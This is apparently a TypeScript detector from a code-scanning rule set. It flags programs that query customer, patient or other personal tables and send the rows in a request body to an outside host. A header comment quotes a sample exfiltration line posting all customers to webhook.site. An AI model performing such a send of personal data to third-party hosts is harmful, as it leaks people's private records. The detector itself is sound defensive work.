// cls-interp20: people's data read by a query in a program, then sent in a request body to a host outside the company
// (rows = db.execute("select * from customers").fetchall(); requests.post("https://webhook.site/…", json=rows)). LABELS,
// "data leaving the company": customer or personal data copied to a third-party service or an unknown host is dangerous.
// The read and the send may be one expression or two statements joined by a name bound to the result.
import { f, type Finding, snippet } from '../findings';

/** Tables and collections that hold people. */
const PEOPLE = String.raw`(?:customers?|users?|auth_user|members?|patients?|employees?|accounts?|contacts?|people|persons?|subscribers?|clients?|leads?|profiles?|students?|applicants?|candidates?|payroll|salar(?:y|ies)|orders?|signups?)`;
/** A query or ORM read of people's rows (not a count or another aggregate alone). */
const PEOPLE_READ = new RegExp(
  String.raw`\bselect\s+(?!(?:count|sum|avg|min|max)\s*\([^)]*\)\s*(?:as\s+\w+\s*)?from\b)[^;"'\x60]{0,300}?\bfrom\s+[\x60"[]?(?:\w+\.)?${PEOPLE}\b` +
    String.raw`|\b(?:User|Customer|Member|Patient|Employee|Account|Contact|Subscriber|Client|Profile|Person|Lead|Order)\s*(?:\.\s*objects)?\s*\.\s*(?:all|values|values_list|filter|where|find_each|findAll|findMany|select|pluck|to_json|as_json)\b` +
    String.raw`|\bdb\s*\.\s*${PEOPLE}\s*\.\s*find\s*\(|\bprisma\s*\.\s*${PEOPLE}\s*\.\s*find(?:Many|All)\s*\(|\bcollection\s*\(\s*["']${PEOPLE}["']\s*\)\s*\.\s*(?:find|get)\s*\(`,
  'i',
);
/** A request that carries a body to a URL given as a literal. */
const SEND = /\b(?:(?:requests|httpx|session|sess|client|http|axios|got|ky|HTTParty|Faraday|RestClient|req)\s*\.\s*(?:post|put|patch)|fetch|Net(?:::|\.)HTTP\s*\.\s*post(?:_form)?|urlopen|Request|curl_init)\s*\(\s*(?:URI\s*\(\s*)?(["'`])(https?:\/\/[^"'`\s]{3,300})\1/g;

function internalHost(host: string): boolean {
  return /^(?:localhost|127\.|0\.0\.0\.0|\[?::1\]?|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|host\.docker\.internal)/i.test(host) || /\.(?:internal|local|lan|corp|intranet|svc|cluster\.local)$/i.test(host) || !host.includes('.');
}

export function queriedDataSent(code: string): Finding[] {
  if (code.length > 60_000 || !/https?:\/\//.test(code) || !PEOPLE_READ.test(code)) return [];
  const head = code.slice(0, 20_000);
  // Names bound to a read of people's rows (one line: `rows = …`, `const rows = await …`, `$rows = …`, `my @rows = …`).
  const bound: string[] = [];
  const stmts = head.replace(/;[ \t]+(?=[$@]?[A-Za-z_])/g, '\n');
  for (const m of stmts.matchAll(/^[ \t]*(?:(?:const|let|var|my|val|final)[ \t]+)?[$@]?([A-Za-z_]\w*)[ \t]*(?::[ \t]*[\w<>[\], ]{1,40})?=[ \t]*([^\n]{1,600})$/gm)) {
    const [, name, rhs] = m as unknown as [string, string, string];
    // (A cursor's rows fetched after it ran a read of people's rows: cur.execute("SELECT … FROM patients"); data = cur.fetchall().)
    const fetched = /\.\s*(?:fetch(?:all|many|one)|fetch_all|fetchAll)\s*\(/.test(rhs) && PEOPLE_READ.test(stmts.slice(0, m.index));
    if (fetched || PEOPLE_READ.test(rhs) || bound.some((b) => new RegExp(String.raw`(?<![\w$.])${b}\b`).test(rhs))) bound.push(name);
    if (bound.length > 20) break;
  }
  for (const s of head.matchAll(SEND)) {
    const url = s[2] as string;
    const host = /^https?:\/\/([^/:?#]+)/i.exec(url)?.[1] ?? '';
    if (internalHost(host) || /(?:^|\.)hooks\.slack\.com$|\.webhook\.office\.com$|^chat\.googleapis\.com$/i.test(host)) continue;
    const at = (s.index as number) + s[0].length;
    const rest = head.slice(at, at + 600);
    // The request's own arguments: up to its closing parenthesis at depth zero (or 600 characters).
    let depth = /URI\s*\(\s*["'`]/.test(s[0]) ? 2 : 1;
    let end = 0;
    for (; end < rest.length && depth > 0; end++) {
      const ch = rest[end];
      if (ch === '(' || ch === '{' || ch === '[') depth++;
      else if (ch === ')' || ch === '}' || ch === ']') depth--;
    }
    const args = rest.slice(0, end);
    // fetch and Request send a body only when given one.
    if (/^(?:fetch|Request|urlopen)/.test(s[0].replace(/^\W+/, '')) && !/\bbody\b|\bdata\s*=|method\s*:\s*["'](?:POST|PUT|PATCH)/i.test(args)) continue;
    const direct = PEOPLE_READ.exec(args);
    const name = direct ? undefined : bound.find((b) => new RegExp(String.raw`(?<![\w$.])[$@]?${b}\b`).test(args));
    if (!direct && !name) continue;
    const what = direct ? direct[0] : (name as string);
    return [f('dangerous', `sends people's data (${snippet(what, 40)}) read from a database to ${host}, outside the company`)];
  }
  return [];
}
